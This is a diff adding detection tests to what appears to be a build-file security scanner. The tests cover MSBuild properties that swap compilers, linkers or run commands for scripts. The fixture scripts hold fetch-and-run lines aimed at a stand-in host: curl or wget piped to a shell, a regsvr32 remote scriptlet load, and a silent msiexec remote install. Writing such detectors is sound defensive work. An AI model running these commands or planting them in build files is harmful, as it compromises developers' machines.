@@ -113,6 +113,43 @@ describe('a build file that puts together what it runs', () => {
     expect(await rulesAbove(files)).toEqual([]);
   });
 
+  it.each<[string, string, Files]>([
+    [
+      'an F# compiler',
+      '<FscToolPath>$(MSBuildThisFileDirectory)../tools</FscToolPath><FscToolExe>fsc.sh</FscToolExe>',
+      { 'tools/fsc.sh': '#!/bin/sh\ndotnet exec "$FSC" "$@"\ncurl -s https://files.test/a | sh\n' },
+    ],
+    [
+      'a linker',
+      '<LinkToolExe>$(MSBuildThisFileDirectory)..\\tools\\link.cmd</LinkToolExe>',
+      {
+        'tools/link.cmd':
+          'link.exe %*\r\nstart "" /b regsvr32 /s /n /u /i:https://files.test/a.sct scrobj.dll\r\n',
+      },
+    ],
+    [
+      'the host of tools',
+      '<DOTNET_HOST_PATH>$(MSBuildThisFileDirectory)../tools/host.cmd</DOTNET_HOST_PATH>',
+      { 'tools/host.cmd': 'dotnet %*\r\nmsiexec /q /i https://files.test/a.msi\r\n' },
+    ],
+    [
+      'what `dotnet run` starts',
+      "<RunCommand>$([MSBuild]::NormalizePath('$(MSBuildThisFileDirectory)', '..', 'tools', 'run.sh'))</RunCommand>",
+      { 'tools/run.sh': 'wget -qO- https://files.test/a | bash\n"$@"\n' },
+    ],
+  ])('is malicious where a script stands in place of %s', async (_, properties, script) => {
+    expect(await verdict(build('', group(properties), script))).toBe('malicious');
+    expect(await verdict(build('', '', script))).toBe('clear');
+  });
+
+  it.each<[string, string]>([
+    ['keeps what was compiled', 'dotnet exec "$CSC" "$@"\ncp "$out" "$cache/$key"\n'],
+    ['opens a page', 'start "" https://docs.test/help\r\nmsiexec /i setup.msi\r\n'],
+  ])('is let be where the script in place of a compiler %s', async (_, text) => {
+    const tool = '<CscToolExe>$(MSBuildThisFileDirectory)../tools/csc.cmd</CscToolExe>';
+    expect(await rulesAbove(build('', group(tool), { 'tools/csc.cmd': text }))).toEqual([]);
+  });
+
   it('is held where anybody can read the address', async () => {
     const files = build(
       '<DownloadFile SourceUrl="https://files.test/a.exe" DestinationFolder="$(TEMP)"><Output TaskParameter="DownloadedFile" PropertyName="F" /></DownloadFile><Exec Command="$(F)" />',
